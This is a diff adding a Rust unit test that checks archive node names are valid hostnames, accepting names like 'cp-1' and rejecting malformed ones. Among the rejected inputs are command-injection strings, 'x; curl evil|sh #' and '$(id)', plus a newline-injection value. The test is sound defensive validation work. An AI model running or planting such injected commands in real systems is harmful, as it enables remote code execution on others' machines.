@@ -32,3 +32,19 @@ fn again(archive: &Archive) -> Archive {
         .collect();
     Archive::parse(archive.index().as_bytes(), files).unwrap()
 }
+
+#[test]
+fn a_node_is_called_what_a_host_can_be_called() {
+    let (archive, _) = archive(&MemoryTree::default(), Redaction::Redact);
+    let named = |name: &str| {
+        let index = archive.index().replace("\"cp-1\"", &format!("{name:?}"));
+        Archive::parse(index.as_bytes(), std::collections::BTreeMap::new())
+            .map(|read| read.provenance().name.clone())
+    };
+    for name in ["cp-1", "Master_2.example.com", "unknown"] {
+        assert_eq!(named(name).as_deref(), Ok(name));
+    }
+    for name in ["", "cp 1", "x; curl evil|sh #", "a\nhint: do", "kö", "$(id)"] {
+        assert!(named(name).unwrap_err().to_string().contains("not that of a host"), "{name:?}");
+    }
+}
